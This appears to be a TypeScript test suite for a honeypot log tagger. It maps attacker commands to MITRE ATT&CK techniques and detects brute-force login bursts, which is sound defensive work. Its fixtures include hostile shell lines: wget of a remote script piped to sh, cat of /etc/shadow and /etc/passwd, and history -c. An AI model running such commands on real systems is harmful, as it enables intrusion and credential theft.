import assert from 'node:assert/strict'
import {describe, it, type TestContext} from 'node:test'

import type {Kysely} from 'kysely'

import type {Database, NewLog, TtpTagRow} from '../../../src/db/schema.js'
import {type AuthFailure, BRUTE_FORCE_RULE} from '../../../src/ttp/brute-force.js'
import {FailureMemory} from '../../../src/workers/ttp/failure-memory.js'
import {Matcher, tagId} from '../../../src/ttp/matcher.js'
import {loadRules} from '../../../src/ttp/rule-loader.js'
import {TagWriter} from '../../../src/workers/ttp/tag-writer.js'
import {lookbackRanges, TTP_CURSOR, ttpDrain, ttpTick, type TtpTickResult} from '../../../src/workers/ttp/tick.js'
import type {DatabaseKind} from '../../helpers/databases.js'
import {DATABASE_KINDS, migratedDatabase, skipReason} from '../../helpers/databases.js'
import {commandLog, failedLogin, insertLogs, minutes, readTags as readTagsUntyped, resetCursor} from '../../helpers/ttp-logs.js'

const readTags = async (db: Kysely<Database>): Promise<TtpTagRow[]> => (await readTagsUntyped(db))

const matcher = new Matcher((await loadRules()).rules)

async function setup(t: TestContext, kind: DatabaseKind): Promise<Kysely<Database>> {
  return (await migratedDatabase(kind, t)).db
}

async function drain(db: Kysely<Database>, batchSize = 5000, memory: FailureMemory | undefined = undefined): Promise<TtpTickResult> {
  for (;;) {
    const result = await ttpTick(db, {batchSize, matcher, memory})
    if (result.lines < batchSize) return result
  }
}

/**
 * Without memory: ticks one by one. With memory: the worker's drain (which
 * reads and tags the next batch ahead on PostgreSQL).
 */
async function drainEither(db: Kysely<Database>, batchSize: number, memory: FailureMemory | undefined): Promise<unknown> {
  return memory === undefined ? drain(db, batchSize) : ttpDrain(db, {batchSize, matcher, memory})
}

const bruteForceTags = async (db: Kysely<Database>): Promise<TtpTagRow[]> => (await readTags(db)).filter((tag) => tag.rule_id === BRUTE_FORCE_RULE.id)

for (const kind of DATABASE_KINDS) {
  describe(`ttp tick (${kind})`, {skip: skipReason(kind)}, () => {
    it('stores one tag per (event, rule, technique) with its ATT&CK ids, rule, confidence and evidence', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, [
        commandLog('203.0.113.7', 0, 'uname -a; wget http://198.51.100.9/x.sh'),
        {...commandLog('203.0.113.8', 1, ''), fields: '{}', msg: 'CMD uid=0 user=root src=203.0.113.8 pwd=/root cmd=cat /etc/passwd'},
        {...commandLog('203.0.113.9', 2, ''), event_type: 'connect', fields: '{"src_ip":"203.0.113.9"}'},
      ])
      const result = await ttpTick(db, {matcher})
      assert.deepEqual(result, {cursor: 3, lines: 3, tags: 4})

      const tags = await readTags(db)
      assert.deepEqual(tags.map((tag) => [tag.log_id, tag.rule_id, tag.tactic, tag.technique_id, tag.sub_technique_id]), [
        [1, 'command-and-control.ingress-tool-transfer', 'TA0011', 'T1105', null],
        [1, 'discovery.system-info', 'TA0007', 'T1082', null],
        [2, 'credential-access.passwd-file', 'TA0006', 'T1003', 'T1003.008'],
        [2, 'credential-access.passwd-file', 'TA0007', 'T1087', 'T1087.001'],
      ])
      const wget = tags[0]
      assert.equal(wget.id, tagId(1, 'command-and-control.ingress-tool-transfer', 'T1105'))
      assert.match(wget.id, /^000000000001[\da-f]{20}$/, 'the log id first, then the hash')
      assert.equal(wget.attacker_ip, '203.0.113.7')
      assert.equal(wget.rule_version, 2)
      assert.equal(wget.confidence, 0.8)
      assert.equal(wget.evidence, 'wget http://198.51.100.9/x.sh')
      assert.equal(wget.timestamp, minutes(0))
      assert.equal(tags[2].id, tagId(2, 'credential-access.passwd-file', 'T1003.008'))
      assert.equal(tags[2].confidence, 0.6, 'a per-technique confidence overrides the rule\'s')
      assert.equal(tags[2].evidence, 'cat /etc/passwd')
    })

    it('tags a payload padded past the 4 KiB a rule sees at once like the bare payload, and stores the cut in the evidence', async (t) => {
      const db = await setup(t, kind)
      const bare = 'wget http://203.0.113.9/x.sh; sh x.sh; cat /etc/shadow; crontab -l; history -c'
      const noop = `: ${'A'.repeat(4100)}; ${bare}`
      await insertLogs(db, [
        commandLog('203.0.113.7', 0, bare),
        commandLog('203.0.113.7', 1, noop),
        commandLog('203.0.113.7', 2, `${'true;'.repeat(1000)}${bare}`),
        {...commandLog('203.0.113.8', 3, ''), fields: '{}', msg: `CMD uid=0 user=root src=203.0.113.8 pwd=/root cmd=${noop}`},
      ])
      await ttpTick(db, {matcher})
      const tags = await readTags(db)
      const techniquesOf = (logId: number): string[] => tags.filter((tag) => tag.log_id === logId).map((tag) => `${tag.rule_id} ${tag.sub_technique_id ?? tag.technique_id}`)
      assert.equal(techniquesOf(1).length, 4)
      for (const logId of [2, 3, 4]) assert.deepEqual(techniquesOf(logId), techniquesOf(1), `log ${logId}`)
      const note = ` [cut: rules saw ${(noop.length - 6).toLocaleString('en-US')} of ${noop.length.toLocaleString('en-US')} characters]`
      for (const logId of [2, 4]) {
        const evidence = tags.filter((tag) => tag.log_id === logId).map((tag) => tag.evidence).sort()
        assert.deepEqual(evidence, [`cat /etc/shadow${note}`, `history -c${note}`, `sh x.sh${note}`, `wget http://203.0.113.9/x.sh${note}`])
      }

      assert.deepEqual(tags.filter((tag) => tag.log_id === 3).map((tag) => tag.evidence).sort(), ['cat /etc/shadow', 'history -c', 'sh x.sh', 'wget http://203.0.113.9/x.sh'])
    })

    it('never duplicates a tag when lines are tagged again, and resumes from its cursor', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, [commandLog('203.0.113.7', 0, 'id'), commandLog('203.0.113.7', 1, 'ps aux')])
      assert.deepEqual(await ttpTick(db, {matcher}), {cursor: 2, lines: 2, tags: 2})
      assert.deepEqual(await ttpTick(db, {matcher}), {cursor: 2, lines: 0, tags: 0})

      await insertLogs(db, [commandLog('203.0.113.7', 2, 'whoami'), commandLog('203.0.113.7', 3, 'echo hi')])
      assert.deepEqual(await ttpTick(db, {matcher}), {cursor: 4, lines: 2, tags: 1})
      const before = await readTags(db)
      assert.deepEqual(before.map((tag) => tag.log_id), [1, 2, 3])

      await resetCursor(db, TTP_CURSOR)
      assert.deepEqual(await drain(db, 1), {cursor: 4, lines: 0, tags: 0})
      assert.deepEqual(await readTags(db), before)
    })

    it('cuts a batch of huge lines at its character budget and says so, and the next tick goes on', async (t) => {
      const db = await setup(t, kind)
      const rows = Array.from({length: 2500}, (_, i) => commandLog('203.0.113.7', i / 10, `cat /etc/passwd # ${'z'.repeat(1000)}`))
      await insertLogs(db, rows)
      const first = await ttpTick(db, {batchSize: 5000, matcher, maxChars: 200_000})
      assert.equal(first.cut, true)
      assert.ok(first.lines > 0 && first.lines < 2500, `${first.lines} lines`)
      let cursor = first.cursor
      for (let tick = first; tick.cut; cursor = tick.cursor) tick = await ttpTick(db, {batchSize: 5000, matcher, maxChars: 200_000})
      assert.equal(cursor, 2500)
      assert.equal((await readTags(db)).filter((tag) => tag.technique_id === 'T1003').length, 2500)
    })

    it('writes thousands of tags in one call, reusing its SQL, and skips those already stored', async (t) => {
      const db = await setup(t, kind)
      const count = 2017
      const tags = Array.from({length: count}, (_, i) => ({
        attacker_ip: '203.0.113.7', confidence: (i % 97) / 97, evidence: `x ${i}`, id: tagId(i + 1, 'local.x', 'T1082'), log_id: i + 1, rule_id: 'local.x',
        rule_version: 1, sub_technique_id: null, tactic: 'TA0007', technique_id: 'T1082', timestamp: minutes(i), attack_version: '18.1',
      }))
      const writer = new TagWriter()
      const everyThird = tags.filter((_, i) => i % 3 === 0)
      assert.equal(await db.transaction().execute((trx) => writer.write(trx, everyThird)), everyThird.length)
      // the rest land between rows already stored
      assert.equal(await db.transaction().execute((trx) => writer.write(trx, tags)), count - everyThird.length)
      assert.equal(await db.transaction().execute((trx) => writer.write(trx, tags)), 0)
      const stored = await readTags(db)
      assert.equal(stored.length, count)
      assert.deepEqual(stored.at(-1), tags.at(-1))
      assert.deepEqual(stored.at(-2), tags.at(-2))
    })

    it('stores evidence cut inside a surrogate pair, with replacement characters for the lone half', async (t) => {
      const db = await setup(t, kind)
      const tag = {
        attacker_ip: '203.0.113.7', confidence: 0.5, evidence: 'echo \ud83d', id: tagId(1, 'local.x', 'T1082'), log_id: 1, rule_id: 'local.x',
        rule_version: 1, sub_technique_id: null, tactic: 'TA0007', technique_id: 'T1082', timestamp: minutes(0), attack_version: '18.1',
      }
      const twin = {...tag, evidence: 'a \\ud83d \\\ud800 \ud83d\ude00', id: tagId(2, 'local.x', 'T1082'), log_id: 2}
      const writer = new TagWriter()
      assert.equal(await db.transaction().execute((trx) => writer.write(trx, [tag, twin])), 2)
      const stored = await readTags(db)
      // PostgreSQL gets one U+FFFD; better-sqlite3 writes the half as three bytes that read back as three
      const squeezed = stored.map((row) => row.evidence.replace(/\ufffd+/g, '\ufffd'))
      assert.deepEqual(squeezed, ['echo \ufffd', 'a \\ud83d \\\ufffd \ud83d\ude00'])
    })

    it('tags a brute-force burst once, on the fifth failure, whatever the tick boundaries', async (t) => {
      const db = await setup(t, kind)
      const rows = [
        // 203.0.113.7: eight failures in 3.5 minutes (one burst), then a new burst 20 minutes later
        ...[0, 0.5, 1, 1.5, 2, 2.5, 3, 3.5].map((at) => failedLogin('203.0.113.7', at)),
        // 203.0.113.8: six failures two minutes apart: never five within five minutes
        ...[0, 2, 4, 6, 8, 10].map((at) => failedLogin('203.0.113.8', at)),
        // 203.0.113.9: four failures and a success in a minute
        ...[0, 0.1, 0.2, 0.3].map((at) => failedLogin('203.0.113.9', at)),
        {...failedLogin('203.0.113.9', 0.4), event_type: 'login_success'},
        ...[20, 20.2, 20.4, 20.6, 20.8, 21].map((at) => failedLogin('203.0.113.7', at)),
      ]
      await insertLogs(db, rows)
      await drain(db)
      const expected = await bruteForceTags(db)
      assert.deepEqual(expected.map((tag) => [tag.log_id, tag.attacker_ip]), [[5, '203.0.113.7'], [24, '203.0.113.7']])
      assert.equal(expected[0].tactic, 'TA0006')
      assert.equal(expected[0].technique_id, 'T1110')
      assert.equal(expected[0].sub_technique_id, 'T1110.001')
      assert.equal(expected[0].id, tagId(5, BRUTE_FORCE_RULE.id, 'T1110.001'))
      assert.equal(expected[0].evidence, `5 failed authentications from 203.0.113.7 in 120 s (first at ${minutes(0)})`)

      for (const batchSize of [1, 2, 3, 4, 7]) {
        for (const memory of [undefined, new FailureMemory()]) {
          await db.deleteFrom('ttp_tags').execute()
          await resetCursor(db, TTP_CURSOR)
          await drainEither(db, batchSize, memory)
          assert.deepEqual(await bruteForceTags(db), expected, `batch size ${batchSize}${memory ? ', drained with memory' : ''}`)
        }
      }
    })

    it('agrees with the definition on a random log with late arrivals, for any batch size, with or without memory', async (t) => {
      const db = await setup(t, kind)
      let state = 11
      const rand = (n: number): number => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
      const rows: NewLog[] = []
      for (let i = 0; i < 700; i++) {
        // each phase of 40 lines comes mostly from 3 of 12 IPs: bursts start, continue and stop
        const ip = `198.51.100.${(Math.floor(i / 40) * 7 + rand(rand(4) === 0 ? 12 : 3)) % 12}`
        // mostly in order, 1 in 10 arriving up to 15 minutes late; a few successes and commands in between
        const at = i * 0.15 - (rand(10) === 0 ? rand(15) : 0) + rand(10) / 100
        const kind = rand(12)
        rows.push(kind === 0 ? {...failedLogin(ip, at), event_type: 'login_success'} : kind === 1 ? commandLog(ip, at, 'id') : failedLogin(ip, at))
      }

      await insertLogs(db, rows)
      const expected = definitionTags(rows)
      assert.ok(expected.length >= 10, `the log should hold several bursts, got ${expected.length}`)
      for (const batchSize of [1, 13, 100, 5000]) {
        for (const memory of [undefined, new FailureMemory()]) {
          await db.deleteFrom('ttp_tags').execute()
          await resetCursor(db, TTP_CURSOR)
          await drainEither(db, batchSize, memory)
          assert.deepEqual((await bruteForceTags(db)).map((tag) => tag.log_id), expected, `batch size ${batchSize}${memory ? ', drained with memory' : ''}`)
        }
      }
    })

    it('drains into the tags ticks one by one give, reading after the cursor it claims when another worker moved it in between', async (t) => {
      // on PostgreSQL a full tick of a drain reads and tags the next batch ahead (after the cursor it leaves)
      const db = await setup(t, kind)
      await insertLogs(db, Array.from({length: 260}, (_, i) => (i % 3 ? failedLogin(`203.0.113.${i % 5}`, i / 20) : commandLog('198.51.100.7', i / 20, 'uname -a'))))
      await drain(db, 1000)
      const expected = await readTags(db)
      assert.ok(expected.some((tag) => tag.rule_id === BRUTE_FORCE_RULE.id), 'the log has brute force')
      await db.deleteFrom('ttp_tags').execute()
      await resetCursor(db, TTP_CURSOR)
      const ticks: TtpTickResult[] = []
      const total = await ttpDrain(db, {batchSize: 50, matcher, memory: new FailureMemory()}, undefined, async (tick) => {
        ticks.push(tick)
        if (ticks.length === 1) await ttpTick(db, {batchSize: 20, matcher}) // moves the cursor from 50 to 70
      })
      assert.deepEqual(
        ticks.map((tick) => tick.cursor),
        [50, 120, 170, 220, 260],
      )
      assert.equal(total.lines, 240)
      assert.deepEqual(await readTags(db), expected)
    })

    it('counts failures from earlier ticks when a burst straddles a tick boundary', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, [1, 2, 3].map((at) => failedLogin('203.0.113.7', at)))
      assert.equal((await ttpTick(db, {matcher})).tags, 0)
      // the next tick: a failure that arrives late (timestamped before the others), one more, and one long after
      await insertLogs(db, [failedLogin('203.0.113.7', 0.5), failedLogin('203.0.113.7', 3.5), failedLogin('203.0.113.7', 10)])
      assert.equal((await ttpTick(db, {matcher})).tags, 1)
      const [tag] = await bruteForceTags(db)
      assert.equal(tag.log_id, 5)
      assert.equal(tag.evidence, `5 failed authentications from 203.0.113.7 in 180 s (first at ${minutes(0.5)})`)
    })
  })
}

describe('failure memory', () => {
  it('is trusted only at the cursor it last saw: a tick by another worker in between makes it read the database again', async (t) => {
    for (const kind of DATABASE_KINDS) {
      if (skipReason(kind)) continue
      const db = await setup(t, kind)
      await insertLogs(db, [1, 1.5, 2, 2.5, 3, 3.5].map((at) => failedLogin('203.0.113.7', at)))
      const memory = new FailureMemory()
      assert.equal((await ttpTick(db, {batchSize: 2, matcher, memory})).tags, 0) // 1, 2: remembered
      assert.ok(memory.validAt(2))
      assert.equal((await ttpTick(db, {batchSize: 2, matcher})).tags, 0) // 3, 4: another worker
      assert.equal((await ttpTick(db, {batchSize: 2, matcher, memory})).tags, 1) // 5 crosses: needs 3 and 4 from the database
      assert.deepEqual((await bruteForceTags(db)).map((tag) => tag.log_id), [5], kind)
    }
  })

  it('recalls only what it covers, and keeps only the look-back before each IP\'s latest failure', () => {
    const failure = (ip: string, at: number, id: number): AuthFailure => ({id, ip, ms: Date.parse(minutes(at)), timestamp: minutes(at)})
    const memory = new FailureMemory()
    assert.equal(memory.recall('a', 0, 1), undefined)
    memory.commit(3, new Map([['a', Date.parse(minutes(-10))]]), [failure('a', -5, 1)], [failure('a', 0, 2), failure('b', 0, 3)])
    assert.ok(memory.validAt(3))
    assert.deepEqual(memory.recall('a', Date.parse(minutes(-10)), Date.parse(minutes(0)))?.map((f) => f.id), [1, 2])
    assert.equal(memory.recall('a', Date.parse(minutes(-11)), Date.parse(minutes(0))), undefined, 'not covered that far back')
    assert.equal(memory.recall('b', Date.parse(minutes(-10)), Date.parse(minutes(0))), undefined, 'never fetched: not covered')
    memory.commit(4, new Map(), [], [failure('a', 30, 4)])
    assert.deepEqual(memory.recall('a', Date.parse(minutes(20)), Date.parse(minutes(30)))?.map((f) => f.id), [4])
    assert.equal(memory.recall('a', Date.parse(minutes(-10)), Date.parse(minutes(30))), undefined, 'pruned to ten minutes before 30')
    memory.reset()
    assert.equal(memory.validAt(4), false)
  })
})

describe('brute-force look-back ranges', () => {
  it('reads ten minutes before each run of an IP\'s new failures, not the whole span of the batch', () => {
    const failure = (ip: string, at: number, id: number): AuthFailure => ({id, ip, ms: Date.parse(minutes(at)), timestamp: minutes(at)})
    const ranges = lookbackRanges([failure('a', 0, 1), failure('b', 1, 2), failure('a', 5, 3), failure('a', 30, 4), failure('a', 600, 5)])
    assert.deepEqual(ranges, [
      {ip: 'a', since: minutes(-10), until: minutes(5)},
      {ip: 'a', since: minutes(20), until: minutes(30)},
      {ip: 'a', since: minutes(590), until: minutes(600)},
      {ip: 'b', since: minutes(-9), until: minutes(1)},
    ])
  })
})

/** The log ids the brute-force rule must tag, straight from its definition (ids are 1-based insertion order). */
function definitionTags(rows: readonly NewLog[]): number[] {
  interface Failure {
    id: number
    ip: null | string | undefined
    ms: number
  }

  const failures: Failure[] = rows.flatMap((row, index) => (row.event_type === 'login_failed' ? [{id: index + 1, ip: row.attacker_ip, ms: Date.parse(row.timestamp)}] : []))
  const {threshold, windowMs} = BRUTE_FORCE_RULE
  const count = (e: Failure): number => failures.filter((f) => f.ip === e.ip && f.id <= e.id && f.ms >= e.ms - windowMs && f.ms <= e.ms).length
  const before = (f: Failure, e: Failure): boolean => f.ms < e.ms || (f.ms === e.ms && f.id < e.id)
  return failures
    .filter((e) => {
      if (count(e) < threshold) return false
      const earlier = failures.filter((f) => f.ip === e.ip && f.id < e.id && before(f, e))
      const p = earlier.reduce<Failure | undefined>((best, f) => (best === undefined || before(best, f) ? f : best), undefined)
      return p === undefined || count(p) < threshold
    })
    .map((e) => e.id)
}
